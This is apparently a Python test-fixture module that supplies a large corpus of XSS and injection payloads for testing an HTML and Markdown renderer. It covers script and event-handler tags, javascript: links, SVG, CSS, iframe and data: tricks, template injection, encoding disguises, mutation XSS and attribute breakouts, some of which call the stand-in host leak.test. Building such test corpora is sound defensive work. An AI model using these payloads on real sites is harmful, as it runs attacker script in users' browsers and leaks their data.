"""Texts that try to become code when shown: each calls `pwned(n)`, or fetches from leak.test, if it gets through.

Families: tags and handlers, links, SVG and MathML, styles, frames and data: addresses, Markdown, LaTeX, templates,
entities and unicode, mutations while parsing, and ways out of the very HTML that Wenju writes.
"""

from __future__ import annotations

import json

__all__ = ["LEAK", "PAYLOADS", "front_matter", "named"]

LEAK = "leak.test"

_TAGS = r"""
<script>CALL</script>
<ScRiPt >CALL</sCrIpT >
<script src=URL></script>
<script/src="URL">
<scr<script>ipt>CALL</scr</script>ipt>
<script>/*<!--*/CALL//--></script>
<img src=x onerror=CALL>
<img src=x onerror="CALL">
<img/src='x'/onerror='CALL'>
<IMG SRC=x OnErRoR=CALL>
<img src=URL>
<img srcset="URL 1x, URL 2x">
<img src="x` `><script>CALL</script>"` `>
<img src onerror=self['pw'+'ned'](NUMBER)>
<img src=1 onerror=CALL
<<img src=x onerror=CALL>>
<picture><source srcset=URL><img src=URL></picture>
<video src=x onerror=CALL></video>
<video poster=URL></video>
<video><source onerror=CALL></video>
<audio src=URL autoplay onerror=CALL></audio>
<track src=URL default>
<input autofocus onfocus=CALL>
<input type=image src=URL onerror=CALL>
<button autofocus onfocus=CALL>x</button>
<button popovertarget=p>x</button><div popover id=p onbeforetoggle=CALL>y</div>
<select autofocus onfocus=CALL></select>
<textarea autofocus onfocus=CALL></textarea>
<details open ontoggle=CALL><summary>x</summary></details>
<marquee onstart=CALL>x</marquee>
<body onload=CALL>
<body onpageshow=CALL background=URL>
<div onmouseover=CALL style="position:fixed;inset:0">x</div>
<b tabindex=1 autofocus onfocusin=CALL>x</b>
<x contenteditable autofocus onfocus=CALL>x
<p onanimationstart=CALL style="animation:wj-appear 1s">x</p>
<dialog open onclose=CALL><form method=dialog><button autofocus>x</button></form></dialog>
<form action=URL><input name=a autofocus></form><script>document.forms[0].submit()</script>
<form><button formaction="javascript:CALL" autofocus>x</button></form>
<meta http-equiv=refresh content="0;url=URL">
<meta http-equiv=refresh content="0;url=javascript:CALL">
<link rel=stylesheet href=URL>
<link rel=preload as=image href=URL>
<link rel=dns-prefetch href=URL>
<base href=URL>
<table background=URL><td background=URL>x</table>
<isindex action=javascript:CALL type=image>
<keygen autofocus onfocus=CALL>
<custom-element onclick=CALL is=x autofocus tabindex=0 onfocus=CALL></custom-element>
"""

_LINKS = r"""
<a href="javascript:CALL">x</a>
<a href="JaVaScRiPt:CALL">x</a>
<a href="java&#9;script:CALL">x</a>
<a href="&#1;javascript:CALL">x</a>
<a href="javascript&colon;CALL">x</a>
<a href="vbscript:CALL">x</a>
<a href="data:text/html,<script>CALL</script>">x</a>
<a href="#" ping=URL>x</a>
<a href=x target=_blank onclick=CALL autofocus tabindex=0 onfocus=CALL>x</a>
<area href="javascript:CALL" onfocus=CALL>
javascript:CALL
javascript://%0aCALL
"""

_GRAPHICS = r"""
<svg onload=CALL>
<svg/onload=CALL//
<svg><script>CALL</script></svg>
<svg><script href=URL></script></svg>
<svg><animate onbegin=CALL attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=CALL>
<svg><a xlink:href="javascript:CALL"><text y=20>x</text></a></svg>
<svg><animate xlink:href=#q attributeName=href values=javascript:CALL /><a id=q><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>CALL</script></svg>#x"/></svg>
<svg><image href=URL></svg>
<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>
<svg><style>@import "URL";</style></svg>
<svg><title><img src=x onerror=CALL></title></svg>
</tspan></text><script>CALL</script><text><tspan>
<math><maction actiontype="statusline#" xlink:href="javascript:CALL">x</maction></math>
<math href="javascript:CALL">x</math>
"""

_STYLES = r"""
<style>*{background:url(URL)}</style>
<style>@import url(URL);</style>
<style>@font-face{font-family:q;src:url(URL)}body{font-family:q}</style>
<div style="background-image:url(URL)">x</div>
<div style="width:expression(CALL)">x</div>
<div style="list-style:url(URL);display:list-item">x</div>
</style><script>CALL</script><style>
"""

_FRAMES = r"""
<iframe srcdoc="<script>parent.CALL</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.CALL&gt;"></iframe>
<iframe src="javascript:parent.CALL"></iframe>
<iframe src=URL onload=CALL></iframe>
<iframe src="data:text/html,<script>parent.CALL</script>"></iframe>
<frameset onload=CALL><frame src=URL></frameset>
<object data="javascript:CALL"></object>
<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoMSk8L3NjcmlwdD4="></object>
<embed src=URL onload=CALL>
<embed src="javascript:CALL">
<portal src=URL onload=CALL></portal>
"""

_MARKDOWN = r"""
[x](javascript:CALL)
[x](<javascript:CALL>)
[x]( javascript:CALL "t")
![x](URL)
![x](URL "t"onerror="CALL)
[![x](URL)](javascript:CALL)
<javascript:CALL>
[x]: javascript:CALL
![x][y] [y]: URL
`<img src=x onerror=CALL>`
```html <script>CALL</script> ```
- <img src=x onerror=CALL>
| <img src=x onerror=CALL> | [y](javascript:CALL) |
# <svg onload=CALL>
**<b onclick=CALL autofocus tabindex=0 onfocus=CALL>x</b>**
[^1]: <script>CALL</script>
<details><summary>![x](URL)</summary></details>
"""

_FORMULAS = r"""
$\href{javascript:CALL}{x}$
$$\url{javascript:CALL}$$
\(\includegraphics{URL}\)
$$\htmlData{x=" onmouseover=CALL}{y}$$
\[\unicode{<img src=x onerror=CALL>}\]
$\style{background:url(URL)}{x}$
```mermaid graph TD; A["<img src=x onerror=CALL>"]; click A "javascript:CALL" ```
"""

_TEMPLATES = r"""
{{CALL}}
{{{CALL}}}
${CALL}
#{CALL}
<%= CALL %>
{% CALL %}
{@html "<img src=x onerror=CALL>"}
{{constructor.constructor('CALL')()}}
[[${CALL}]]
`;CALL;`
"""

_DISGUISES = r"""
&lt;script&gt;CALL&lt;/script&gt;
&#60;img src=x onerror=CALL&#62;
&#x3c;svg onload=CALL&#x3e;
&amp;lt;img src=x onerror=CALL&amp;gt;
%3Cscript%3ECALL%3C/script%3E
\u003cscript\u003eCALL\u003c/script\u003e
＜script＞CALL＜/script＞
﹤img src=x onerror=CALL﹥
<ſcript>CALL</ſcript>
<scrıpt>CALL</scrıpt>
<img src=x onerror=&#112;wned&#40;NUMBER&#41;>
<a href="&#106;avascript:CALL">x</a>
+ADw-script+AD4-CALL+ADw-/script+AD4-
"""

_MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=CALL>">
<style><!--</style><img src=x onerror=CALL>--></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CALL&gt;">
<svg></p><style><a id="</style><img src=x onerror=CALL>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>
<xmp><p title="</xmp><svg/onload=CALL>">
<template><script>CALL</script></template>
<textarea><img title="</textarea><img src=x onerror=CALL>"></textarea>
<title><img title="</title><img src=x onerror=CALL>"></title>
<!--><img src=x onerror=CALL>-->
<![CDATA[<img src=x onerror=CALL>]]>
<?xml-stylesheet href="URL"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "URL">]>&y;
<plaintext><img src=x onerror=CALL>
<a id=wenju><a id=wenju name=sent href="javascript:CALL">
<form id=props><input name=value></form>
"""

_WAYS_OUT = r"""
" onmouseover=CALL autofocus onfocus=CALL x="
' onfocus=CALL autofocus tabindex=0 x='
"><img src=x onerror=CALL>
'><svg onload=CALL>
</a><img src=x onerror=CALL><a>
</mark></p></div></article><script>CALL</script>
</strong></td></tr></table><img src=x onerror=CALL>
</cite></a></li></ol><svg onload=CALL>
</summary></details><img src=x onerror=CALL>
</option></select><img src=x onerror=CALL>
</h2></header><iframe src=URL></iframe>
</title><script>CALL</script>
"/><image href=URL onerror=CALL><g x="
"};CALL;//
');CALL;//
\");CALL;//
*/CALL/*
--><script>CALL</script><!--
[1](javascript:CALL)[2]<a href=#cite-1-1 onclick=CALL>[3]</a>
</script><script>CALL</script>
"""

_FAMILIES = (
    _TAGS, _LINKS, _GRAPHICS, _STYLES, _FRAMES, _MARKDOWN, _FORMULAS, _TEMPLATES, _DISGUISES, _MUTATIONS, _WAYS_OUT,
)  # fmt: skip


def _filled(number: int, line: str) -> str:
    call, url = f"pwned({number})", f"//{LEAK}/{number}"
    return line.replace("CALL", call).replace("URL", url).replace("NUMBER", str(number))


PAYLOADS = tuple(
    _filled(number, line)
    for number, line in enumerate(line for family in _FAMILIES for line in family.strip("\n").split("\n"))
)


def named(payload: str, suffix: str) -> str:
    """A file name made of a payload: what no file system takes is left out."""
    return payload.replace("/", "∕").encode()[:180].decode(errors="ignore") + suffix


def front_matter(**values: str) -> str:
    """Front matter, each value quoted as YAML wants it."""
    lines = [f"{name}: {json.dumps(value, ensure_ascii=False)}\n" for name, value in values.items()]
    return f"---\n{''.join(lines)}---\n\n"
